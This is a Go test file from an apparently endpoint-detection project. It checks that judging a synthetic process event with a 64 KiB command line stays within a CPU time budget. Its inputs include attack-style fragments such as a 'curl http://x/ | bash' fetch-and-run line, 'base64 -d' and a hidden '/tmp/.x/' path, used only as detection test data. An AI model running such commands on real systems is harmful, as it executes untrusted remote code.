package rules_test

import (
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/yagura-edr/yagura/internal/event"
	"github.com/yagura-edr/yagura/internal/sigma"
	"github.com/yagura-edr/yagura/rules"
)

var hugeLines = []string{"a", "base64 -d ", "find -exec ", "true $(head -c 60000 /dev/urandom | base64) ", "curl http://x/ | bash; ", "/tmp/.x/ "}

func huge(words string) *sigma.EventRecord {
	rec := &sigma.EventRecord{}
	rec.Set(&event.Event{
		Kind: event.ProcessExec, OS: event.Linux, Parent: event.Process{Path: "/usr/bin/bash"},
		Actor: event.Process{Path: "/usr/bin/dash", CommandLine: strings.Repeat(words, 65536/len(words))},
	})
	return rec
}

// An event with the longest command line must not hold up the judging of all hosts: 34 ms once.
func TestAHugeCommandLineIsJudgedSoon(t *testing.T) {
	set, err := rules.Load()
	if err != nil {
		t.Fatal(err)
	}
	const most = 20 * time.Millisecond // three times what it takes on a loaded machine; the standard library took 14 to 32 there
	s := set.Scratch()
	for _, words := range hugeLines {
		rec := huge(words)
		s.Judge(rec, nil)
		best := time.Hour
		for range 10 {
			before := cpuTime(t)
			s.Judge(rec, nil)
			best = min(best, cpuTime(t)-before)
		}
		t.Logf("%q: %v", words, best)
		if best > most {
			t.Errorf("64 KiB of %q take %v of CPU time", words, best)
		}
	}
}

func cpuTime(t testing.TB) time.Duration {
	t.Helper()
	var r syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &r); err != nil {
		t.Fatal(err)
	}
	return time.Duration(r.Utime.Nano() + r.Stime.Nano())
}
